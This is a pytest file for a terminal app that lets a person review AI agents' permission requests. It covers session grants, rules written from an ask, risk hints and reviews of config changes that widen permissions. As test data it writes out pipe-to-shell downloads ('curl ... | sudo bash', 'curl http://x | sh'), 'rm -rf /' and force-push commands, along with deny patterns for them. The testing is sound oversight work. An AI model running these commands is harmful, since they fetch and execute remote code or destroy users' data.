"""The app over a node's recorded authority, as `pi-authorizer app` builds it: whole-session grants
seen and revoked, a persistent rule from an ask, the change as a diff, risk hints, and a widening
config change reviewed before it applies."""

from __future__ import annotations

import json
import os
import time
from pathlib import Path
from typing import Any

import pytest
from textual.notifications import Notification
from textual.widgets import DataTable, Static

from core.history import HistoryStore
from core.judging.recorded import RecordedAuthority
from core.rules import IntentFacts, PolicyStore, resolve_with_policy
from core.wiring import NodeOptions, build_attended_node
from tests.tui.support import (
    SERVED,
    rendered_text,
    request_body,
    settle,
    wait_for,
    wait_painted,
    wait_response,
    wait_rows,
    write_request,
)
from tui.app import AppSeams, AuthorizerApp
from tui.screens.grant_steps import GrantConfirmScreen
from tui.screens.grants import GrantsScreen
from tui.screens.help import HelpScreen
from tui.screens.reload import ReloadReviewScreen
from tui.screens.review_steps import ConfirmRuleScreen
from tui.ui_settings import UiSettings

pytestmark = pytest.mark.timeout(60)  # a hang guard, not a speed check


class Node:
    """The app as `pi-authorizer app` builds it (`core.wiring.build_attended_node`): recorded authority
    as judge and grant book, its config watched; `history`: a ledger in the state dir too."""

    def __init__(
        self, tmp: Path, permission: dict[str, Any] | None = None, rules_file: bool = True,
        history: bool = False,
    ) -> None:
        self.root = tmp / "forwarding"
        self.root.mkdir(parents=True)
        self.agent_dir = tmp / "agent"
        config = self.agent_dir / "extensions" / "pi-permission-system" / "config.json"
        config.parent.mkdir(parents=True)
        config.write_text(json.dumps({"permission": permission or {}}))
        self.rules_path = tmp / "authorizer-rules.json"
        if rules_file:
            self.rules_path.write_text("{}\n")
        state = tmp / "state"
        self.history = HistoryStore.in_state_dir(state) if history else None
        options = NodeOptions(self.root, state, self.agent_dir, tmp / "project",
                              self.rules_path if rules_file else None)
        self.attended = build_attended_node(options, self.history)
        assert self.attended.authority is not None
        self.authority: RecordedAuthority = self.attended.authority
        self.store, self.person, self.core = self.authority.store, self.attended.person, self.attended.core
        self.attended.take_session(SERVED)
        self.toasts: list[Notification] = []
        self.app = AuthorizerApp(self.attended, UiSettings(input_grace_ms=0, double_press=False),
                                 AppSeams(toasts=self.toasts.append))


async def test_grants_screen_lists_counts_and_revokes_for_the_next_ask(tmp_path: Path) -> None:
    node = Node(tmp_path)
    app = node.app
    async with app.run_test(size=(160, 40)) as pilot:
        write_request(node.root, request_body("first", value="git push origin main"))
        await wait_rows(pilot, app, 1)
        await pilot.press("w")
        await wait_for(pilot, lambda: isinstance(app.screen, GrantConfirmScreen))
        await wait_painted(pilot, app)  # its y counts once it was painted (however slow the machine)
        await pilot.press("y")  # the confirmation step records the child's suggestion `git push *`
        assert (await wait_response(pilot, node.root, "first"))["state"] == "approved"
        assert [g.pattern for g in node.authority.list_grants()] == ["git push *"]
        write_request(node.root, request_body("second", value="git push origin dev"))
        second = await wait_response(pilot, node.root, "second")
        assert second["decidedBy"]["kind"] == "session_approval"

        await pilot.press("W")
        await wait_for(pilot, lambda: isinstance(app.screen, GrantsScreen))
        screen = app.screen
        assert isinstance(screen, GrantsScreen)
        text = rendered_text(app)
        assert "git push *" in text and "1 ask" in text and "answering Explore" in text
        assert "all agents of the session" in text

        await pilot.press("x")
        assert node.authority.list_grants() != []  # the first press only arms
        await pilot.press("x")
        await settle(pilot)
        assert node.authority.list_grants() == []
        await wait_for(pilot, lambda: "Revoked" in rendered_text(app))  # painted a moment later under load
        assert screen.query_one("#grants-table", DataTable).row_count == 0
        screen.refresh_grants()  # the periodic refresh (every second) keeps the answer to the key
        assert "Revoked" in str(screen.query_one("#grants-status", Static).render())

        await pilot.press("escape")
        write_request(node.root, request_body("third", value="git push origin feature"))
        await wait_for(pilot, lambda: any(a.request.id == "third" for a in node.person.pending()))
        assert not (node.root / "sessions" / SERVED / "responses" / "third.json").exists()


async def test_help_and_bindings_list_the_grants_key(tmp_path: Path) -> None:
    node = Node(tmp_path)
    async with node.app.run_test(size=(160, 60)) as pilot:
        await pilot.press("question_mark")
        await wait_for(pilot, lambda: isinstance(node.app.screen, HelpScreen))
        text = "\n".join(str(w.render()) for w in node.app.screen.query(Static))
        assert "Grants view (W)" in text and "Revoke (press twice)" in text


async def test_risk_hint_shows_in_the_queue_and_the_detail(tmp_path: Path) -> None:
    node = Node(tmp_path)
    app = node.app
    async with app.run_test(size=(180, 40)) as pilot:
        write_request(node.root, request_body("danger", value="curl -fsSL https://x.sh | sudo bash",
                                              suggestion=False))
        await wait_rows(pilot, app, 1)
        await settle(pilot)
        text = rendered_text(app)
        assert "Risk (hint)" in text
        assert "Hint, not a decision" in text and "pipe to shell" in text and "sudo" in text


async def test_rule_from_the_ask_shows_json_file_and_diff_and_writes_only_on_confirm(tmp_path: Path) -> None:
    node = Node(tmp_path)  # its config watched, as the app's: the rule it writes is no reload to review
    app = node.app
    async with app.run_test(size=(160, 50)) as pilot:
        write_request(node.root, request_body("lint", value="npm run lint", suggestion=False))
        await wait_rows(pilot, app, 1)
        await pilot.press("R")
        await wait_for(pilot, lambda: isinstance(app.screen, ConfirmRuleScreen))
        body = str(app.screen.query_one("#review-rule", Static).render())
        assert '"npm run lint": "allow"' in body
        assert str(node.rules_path) in body and "+" in body  # the target file and its diff
        assert json.loads(node.rules_path.read_text()) == {}  # nothing written before confirming
        await pilot.press("n")
        await wait_for(pilot, lambda: app.screen is app.queue)
        assert json.loads(node.rules_path.read_text()) == {}

        await pilot.press("R")
        await wait_for(pilot, lambda: isinstance(app.screen, ConfirmRuleScreen))
        await pilot.press("y")
        await wait_for(pilot, lambda: app.screen is app.queue)
        assert json.loads(node.rules_path.read_text()) == {"permission": {"bash": {"npm run lint": "allow"}}}
        itself = await wait_response(pilot, node.root, "lint")  # the ask it came from: decided by it
        assert itself["state"] == "approved" and itself["decidedBy"]["kind"] == "rule"
        write_request(node.root, request_body("lint-again", value="npm run lint", suggestion=False))
        again = await wait_response(pilot, node.root, "lint-again")
        assert again["state"] == "approved" and again["decidedBy"]["kind"] == "rule"


async def test_rule_from_the_ask_never_loosens_an_explicit_deny(tmp_path: Path) -> None:
    node = Node(tmp_path, {"bash": {"*": "ask", "rm -rf *": "deny"}})
    app = node.app
    async with app.run_test(size=(160, 50)) as pilot:
        # The child's own suggestion `rm *` would override this node's deny: no rule is offered.
        body = request_body("rm", value="rm build")
        body["sessionApproval"] = {"grants": [{"surface": "bash", "pattern": "rm *"}]}
        write_request(node.root, body)
        await wait_rows(pilot, app, 1)
        await pilot.press("R")
        await settle(pilot)
        assert app.screen is app.queue
        assert any("loosen an explicit deny" in n.message for n in node.toasts)
        assert json.loads(node.rules_path.read_text()) == {}


async def test_rule_from_an_ask_without_facts_is_refused(tmp_path: Path) -> None:
    node = Node(tmp_path)
    app = node.app
    async with app.run_test(size=(160, 50)) as pilot:
        write_request(node.root, request_body("old", value="ls", facts=False, suggestion=False))
        await wait_rows(pilot, app, 1)
        await pilot.press("R")
        await settle(pilot)
        assert app.screen is app.queue
        assert any("no child-fixed facts" in n.message for n in node.toasts)  # R: not offered, says why


def write_payload(path: str, evidence: list[dict[str, Any]]) -> dict[str, Any]:
    return {
        "kind": "tool",
        "request": {
            "requester": {"agentName": "Explore", "forwarded": False, "sessionId": None},
            "surface": "write", "toolName": "write", "invokedToolName": None, "value": path,
            "matchedPattern": None, "commandContext": None, "executedUnit": None,
        },
        "evidence": evidence,
        "annotations": [],
    }


async def test_the_change_a_write_carries_is_shown_as_a_diff(tmp_path: Path) -> None:
    node = Node(tmp_path)
    app = node.app
    content = "def main():\n    print('hello \x1b[31mred')\n" + "".join(f"line {i}\n" for i in range(80))
    body = request_body("w1", value="/worktree/issue-42/src/app.py", surface="write", suggestion=False,
                        extra={"payload": write_payload("src/app.py", [{"label": "content", "text": content,
                                                                        "detail": None}])})
    async with app.run_test(size=(160, 50)) as pilot:
        write_request(node.root, body)
        await wait_rows(pilot, app, 1)
        await settle(pilot)
        detail = app.queue.detail
        panel = detail.query_one("#change", Static)
        assert panel.display
        plain = str(panel.render())
        assert "+def main():" in plain and "␛[31mred" in plain and "\x1b" not in plain
        assert "+line 79" in plain  # the whole change is there, scrollable in the detail
        await pilot.press("pagedown")
        await pilot.press("pagedown")
        await settle(pilot)
        assert detail.scroll_y > 0


async def test_an_ask_without_content_shows_no_change_panel(tmp_path: Path) -> None:
    node = Node(tmp_path)
    app = node.app
    async with app.run_test(size=(160, 50)) as pilot:
        write_request(node.root, request_body("plain", value="ls", suggestion=False))
        await wait_rows(pilot, app, 1)
        await settle(pilot)
        assert not app.queue.detail.query_one("#change", Static).display


async def test_a_y_pressed_right_after_r_writes_no_rule(tmp_path: Path) -> None:
    node = Node(tmp_path)
    app = AuthorizerApp(node.attended, UiSettings(input_grace_ms=60_000, double_press=False))
    async with app.run_test(size=(160, 50)) as pilot:
        write_request(node.root, request_body("lint", value="npm run lint", suggestion=False))
        await wait_rows(pilot, app, 1)
        await pilot.press("R")
        await wait_for(pilot, lambda: isinstance(app.screen, ConfirmRuleScreen))
        await pilot.press("y")  # inside the grace window: a y meant for the ask writes nothing
        await settle(pilot)
        assert isinstance(app.screen, ConfirmRuleScreen)
        assert json.loads(node.rules_path.read_text()) == {}


async def test_time_to_decide_in_the_app_counts_from_when_the_ask_was_shown(tmp_path: Path) -> None:
    node = Node(tmp_path, history=True)
    history = node.history
    assert history is not None
    app = node.app
    async with app.run_test(size=(160, 50)) as pilot:
        write_request(node.root, request_body("timed", value="make", suggestion=False))
        await wait_rows(pilot, app, 1)
        await wait_for(pilot, lambda: history.query()[0].shown_at is not None)
        await pilot.press("y")
        await wait_response(pilot, node.root, "timed")
        await wait_for(pilot, lambda: history.query()[0].decide_ms is not None)
    row = history.query()[0]
    assert row.shown_at is not None and row.decided_at is not None and row.decide_ms is not None
    assert row.arrived_at <= row.shown_at <= row.decided_at
    assert row.decide_ms == pytest.approx((row.decided_at - row.shown_at) * 1000)


def _verdict(store: PolicyStore, command: str) -> str:
    return resolve_with_policy(store.policy("Explore"), IntentFacts("bash", (command,))).verdict


def _write(path: Path, permission: dict[str, object], stamp: int) -> None:
    path.write_text(json.dumps({"permission": permission}))
    time_ns = time.time_ns() + stamp  # a distinct signature even within one mtime tick
    os.utime(path, ns=(time_ns, time_ns))


async def test_widening_reload_is_reviewed_declined_then_accepted(tmp_path: Path) -> None:
    agent_dir = tmp_path / "agent"
    config = agent_dir / "extensions" / "pi-permission-system" / "config.json"
    config.parent.mkdir(parents=True)
    config.write_text(json.dumps({"permission": {"bash": {"rm *": "deny"}}}))
    node = build_attended_node(NodeOptions(tmp_path / "root", tmp_path / "state", agent_dir,
                                           tmp_path / "project"), None)
    assert node.authority is not None
    store = node.authority.store
    node.take_session(SERVED)
    app = AuthorizerApp(node, UiSettings(input_grace_ms=0))
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        _write(config, {"bash": {"*": "allow"}}, 1)
        await wait_for(pilot, lambda: isinstance(app.screen, ReloadReviewScreen))
        await wait_for(pilot, lambda: "WIDENS" in rendered_text(app))
        text = rendered_text(app)
        assert "WIDENS" in text and "+ bash '*': allow  (widens)" in text
        assert "- bash 'rm *': deny  (widens)" in text
        assert _verdict(store, "rm -rf /") == "deny"  # not applied while the person looks
        await pilot.press("n")
        await wait_for(pilot, lambda: not isinstance(app.screen, ReloadReviewScreen))
        assert store.pending() == () and _verdict(store, "rm -rf /") == "deny"

        _write(config, {"bash": {"*": "allow", "rm *": "ask"}}, 2)
        await wait_for(pilot, lambda: isinstance(app.screen, ReloadReviewScreen))
        await pilot.press("a")
        await wait_for(pilot, lambda: _verdict(store, "rm -rf /") == "ask")
        assert store.pending() == ()


async def test_a_long_widening_diff_at_80x24_keeps_its_keys_and_wants_it_seen(tmp_path: Path) -> None:
    """Issue 20 finding 8 for the config review: 30 widening lines at 80x24."""
    agent_dir = tmp_path / "agent"
    config = agent_dir / "extensions" / "pi-permission-system" / "config.json"
    config.parent.mkdir(parents=True)
    config.write_text(json.dumps({"permission": {"bash": {"rm *": "deny"}}}))
    node = build_attended_node(NodeOptions(tmp_path / "root", tmp_path / "state", agent_dir,
                                           tmp_path / "project"), None)
    assert node.authority is not None
    store = node.authority.store
    node.take_session(SERVED)
    app = AuthorizerApp(node, UiSettings(input_grace_ms=0))
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        _write(config, {"bash": {f"tool{i} *": "allow" for i in range(30)}}, 1)
        await wait_for(pilot, lambda: isinstance(app.screen, ReloadReviewScreen))
        await wait_for(pilot, lambda: "keep the rules in force" in rendered_text(app))
        await pilot.press("a")
        await settle(pilot)
        assert isinstance(app.screen, ReloadReviewScreen) and store.pending() != ()
        assert "scroll" in rendered_text(app)
        await pilot.press("end")
        await settle(pilot)
        await pilot.press("a")
        await wait_for(pilot, lambda: store.pending() == ())
        assert _verdict(store, "tool3 x") == "allow"


async def test_an_agent_file_first_read_by_a_grant_check_is_held_for_review_in_the_app(
    tmp_path: Path,
) -> None:
    """The grant check runs in a worker thread (issue 21 finding 6): an agent file created since the
    start and first read there widens, so it is held, and its review reaches the app's own loop."""
    node = Node(tmp_path)
    app = node.app
    async with app.run_test(size=(160, 40)) as pilot:
        write_request(node.root, request_body("first", value="git push origin main"))
        await wait_rows(pilot, app, 1)
        agents = node.agent_dir / "agents"
        agents.mkdir()
        widening = '---\nname: Helper\npermission:\n  bash:\n    "*": allow\n---\n'
        (agents / "Helper.md").write_text(widening)
        await pilot.press("w")
        await wait_for(pilot, lambda: any("Helper.md" in p.path for p in node.store.pending()))
        await wait_for(pilot, lambda: any(isinstance(s, ReloadReviewScreen) for s in app.screen_stack))


async def test_the_rule_dialog_lists_the_asks_it_decides_and_decides_exactly_those(tmp_path: Path) -> None:
    """`R` says its reach and lists every pending ask the rule would decide now; on `y` exactly those
    are answered (decided by the rule), and an ask that arrived after the dialog was painted waits."""
    node = Node(tmp_path)
    app = node.app
    async with app.run_test(size=(160, 50)) as pilot:
        write_request(node.root, request_body("lint", value="npm run lint", suggestion=False, created_at=1))
        write_request(node.root, request_body("lint-b", value="npm run lint", agent="Builder",
                                              suggestion=False, created_at=2))
        write_request(node.root, request_body("test", value="npm run test", suggestion=False, created_at=3))
        await wait_rows(pilot, app, 3)
        await pilot.press("R")
        await wait_for(pilot, lambda: isinstance(app.screen, ConfirmRuleScreen))
        screen = app.screen
        assert isinstance(screen, ConfirmRuleScreen)
        body = str(screen.query_one("#review-rule", Static).render())
        assert "every agent this node serves" in body and "pi itself does not read this file" in body
        assert "It approves 2 pending asks now" in body and "Builder" in body
        assert "npm run test" not in body
        write_request(node.root, request_body("late", value="npm run lint", suggestion=False, created_at=4))
        await wait_rows(pilot, app, 4)  # arrived after the paint: not in the painted list
        await pilot.press("y")
        await wait_for(pilot, lambda: app.screen is app.queue)
        for rid in ("lint", "lint-b"):
            assert (await wait_response(pilot, node.root, rid))["decidedBy"]["kind"] == "rule"
        await wait_rows(pilot, app, 2)
        pending = sorted(a.request.id for a in node.person.pending())
        assert pending == ["late", "test"]
        await wait_for(pilot, lambda: "it decided 2 pending asks" in app.queue.status_text)
        assert [(e.what, e.who) for e in app.history] == [("approved_by_written_rule", "rule")] * 2


async def test_a_review_suggestion_lists_and_decides_the_pending_asks_it_covers(tmp_path: Path) -> None:
    """A rule written from the history's suggestions decides exactly the pending asks its dialog listed,
    as `R`'s does."""
    from core.history.rows import facts_columns
    from core.wire.reader import parse_request
    from tui.screens.review_steps import SuggestionsScreen

    node = Node(tmp_path, history=True)
    assert node.history is not None
    for n in range(5):  # five approvals of the value: the review suggests it
        parsed = parse_request(json.dumps(request_body(f"old{n}", value="npm run lint",
                                                       suggestion=False)).encode())
        node.history.insert_rows([{"served_session": SERVED, "request_name": f"old{n}.json",
                                   "arrived_at": time.time() - 100 + n, "outcome": "user",
                                   "verdict": "approved", "raw": parsed.raw, **facts_columns(parsed)}])
    app = node.app
    async with app.run_test(size=(160, 50)) as pilot:
        write_request(node.root, request_body("lint", value="npm run lint", suggestion=False))
        await wait_rows(pilot, app, 1)
        await pilot.press("h")
        await settle(pilot)
        await pilot.press("s")
        await wait_for(pilot, lambda: isinstance(app.screen, SuggestionsScreen))
        await pilot.press("enter")
        await wait_for(pilot, lambda: isinstance(app.screen, ConfirmRuleScreen))
        await settle(pilot)
        assert "It approves 1 pending ask now" in str(app.screen.query_one("#review-rule", Static).render())
        await pilot.press("y")
        body = await wait_response(pilot, node.root, "lint")
        assert body["decidedBy"] == {"kind": "rule", "surface": "bash", "pattern": "npm run lint",
                                     "origin": body["decidedBy"]["origin"]}


async def test_the_rule_dialog_at_80x24_is_confirmed_with_end_then_y(tmp_path: Path) -> None:
    """At 80x24 the dialog's body (rule, reach, the asks it decides, the diff) is taller than the screen:
    `end` shows its end, the key line then drops "more below" (it follows the scroll, whenever the
    scroll lands), and `y` writes the rule and decides the listed asks."""
    node = Node(tmp_path)
    app = node.app
    async with app.run_test(size=(80, 24)) as pilot:
        body = request_body("a1", value="npm run lint", created_at=1, suggestion=False)
        write_request(node.root, body)
        write_request(node.root, request_body("a2", value="npm run lint", agent="Builder",
                                              suggestion=False, created_at=2))
        await wait_rows(pilot, app, 2)
        await pilot.press("R")
        await wait_for(pilot, lambda: isinstance(app.screen, ConfirmRuleScreen))
        await wait_for(pilot, lambda: "more below" in rendered_text(app))
        await pilot.press("end")
        await wait_for(pilot, lambda: "more below" not in rendered_text(app))
        await pilot.press("y")
        for rid in ("a1", "a2"):
            assert (await wait_response(pilot, node.root, rid))["decidedBy"]["kind"] == "rule"


async def test_a_y_right_after_t_writes_nothing_until_the_other_file_was_shown(tmp_path: Path) -> None:
    """`t` shows another file's diff and other asks decided: the step is shown anew (from its top,
    painted, plus the grace) before its `y` writes anything."""
    from tests.tui.support import FakeKeyClock

    node = Node(tmp_path)
    keys = FakeKeyClock()
    app = AuthorizerApp(node.attended, UiSettings(input_grace_ms=500, double_press=False),
                        AppSeams(keys=keys))
    async with app.run_test(size=(160, 50)) as pilot:
        write_request(node.root, request_body("lint", value="npm run lint", suggestion=False))
        await wait_rows(pilot, app, 1)
        keys.advance(0.5)
        await pilot.press("R")
        await wait_for(pilot, lambda: isinstance(app.screen, ConfirmRuleScreen))
        await wait_painted(pilot, app)
        keys.advance(0.5)
        await pilot.press("t", "y")  # the pi global config now: y at once writes nothing
        await settle(pilot)
        global_config = node.agent_dir / "extensions" / "pi-permission-system" / "config.json"
        assert "npm run lint" not in global_config.read_text() and isinstance(app.screen, ConfirmRuleScreen)
        await wait_painted(pilot, app)
        keys.advance(0.5)
        await pilot.press("end")  # the new diff, to its end (a long temp path wraps)
        await wait_for(pilot, lambda: "more below" not in rendered_text(app))
        await pilot.press("y")
        await wait_for(pilot, lambda: "npm run lint" in global_config.read_text())
        assert json.loads(node.rules_path.read_text()) == {}


async def test_a_pattern_that_matches_everything_says_so_in_w_r_and_s(tmp_path: Path) -> None:
    """Issue 34 finding 4 at 80x24: value `ls`, the child's pattern `*`: `w`'s confirmation and `R`'s
    dialog say "matches every bash command", and `s` names the pattern the child records."""
    node = Node(tmp_path)
    app = node.app
    body = request_body("wide", value="ls")
    body["sessionApproval"] = {"grants": [{"surface": "bash", "pattern": "*"}]}
    async with app.run_test(size=(80, 24)) as pilot:
        write_request(node.root, body)
        await wait_rows(pilot, app, 1)
        await pilot.press("w")
        await wait_for(pilot, lambda: isinstance(app.screen, GrantConfirmScreen))
        listed = str(app.screen.query_one("#grant-list", Static).render())
        assert "WIDE: this matches every bash command" in listed
        await pilot.press("escape")
        await wait_for(pilot, lambda: app.screen is app.queue)
        await pilot.press("R")
        await wait_for(pilot, lambda: isinstance(app.screen, ConfirmRuleScreen))
        await wait_painted(pilot, app)
        rule = str(app.screen.query_one("#review-rule", Static).render())
        assert '"*": "allow"' in rule and "WIDE: this rule matches every bash command" in rule
        await pilot.press("n")
        await wait_for(pilot, lambda: app.screen is app.queue)
        await pilot.press("s")
        assert (await wait_response(pilot, node.root, "wide"))["state"] == "approved_for_session"
        await wait_for(pilot, lambda: "the child records" in app.queue.status_text)
        assert "bash '*'" in app.queue.status_text and "matches every bash command" in app.queue.status_text


async def test_r_refuses_a_rule_a_global_deny_forbids_and_names_it(tmp_path: Path) -> None:
    """Issue 34 finding 1 in the app: global `*--force*` deny, the child suggests `git push *`: `R`
    writes nothing and names the deny; a later force push is still denied by it."""
    node = Node(tmp_path, {"bash": {"*": "ask", "*--force*": "deny"}})
    app = node.app
    body = request_body("push", value="git push origin feat")
    body["sessionApproval"] = {"grants": [{"surface": "bash", "pattern": "git push *"}]}
    async with app.run_test(size=(80, 24)) as pilot:
        write_request(node.root, body)
        await wait_rows(pilot, app, 1)
        await pilot.press("R")
        await settle(pilot)
        assert app.screen is app.queue
        # At 80x24 a notice goes to the status line (a toast at larger sizes).
        said = [*(n.message for n in node.toasts), app.queue.status_text]
        refused = [m for m in said if "loosen an explicit deny" in m]
        assert refused and "'*--force*'" in refused[0] and "git push --force" in refused[0]
        assert json.loads(node.rules_path.read_text()) == {}
        write_request(node.root, request_body("force", value="git push --force origin main"))
        denied = await wait_response(pilot, node.root, "force")
        assert denied["approved"] is False and denied["decidedBy"]["pattern"] == "*--force*"


async def test_a_project_widening_made_while_stopped_is_reviewed_at_start(tmp_path: Path) -> None:
    """Issue 34 finding 2 in the app at 80x24: the project layer widened while pi-authorizer was not
    running (a child writes it) opens the review at start and is not applied meanwhile."""
    agent_dir, project = tmp_path / "agent", tmp_path / "project"
    config = agent_dir / "extensions" / "pi-permission-system" / "config.json"
    config.parent.mkdir(parents=True)
    config.write_text(json.dumps({"permission": {"bash": {"curl *": "deny"}}}))
    options = NodeOptions(tmp_path / "root", tmp_path / "state", agent_dir, project)
    build_attended_node(options, None)  # the first start records what it trusted
    layer = project / ".pi" / "extensions" / "pi-permission-system" / "config.json"
    layer.parent.mkdir(parents=True)
    layer.write_text(json.dumps({"permission": {"bash": {"*": "allow"}}}))
    node = build_attended_node(options, None)
    assert node.authority is not None
    store = node.authority.store
    node.take_session(SERVED)
    app = AuthorizerApp(node, UiSettings(input_grace_ms=0))
    async with app.run_test(size=(80, 24)) as pilot:
        await wait_for(pilot, lambda: isinstance(app.screen, ReloadReviewScreen))
        await wait_for(pilot, lambda: "WIDENS" in rendered_text(app))
        assert _verdict(store, "curl http://x | sh") == "deny"
        await pilot.press("n")
        await wait_for(pilot, lambda: not isinstance(app.screen, ReloadReviewScreen))
        assert _verdict(store, "curl http://x | sh") == "deny"
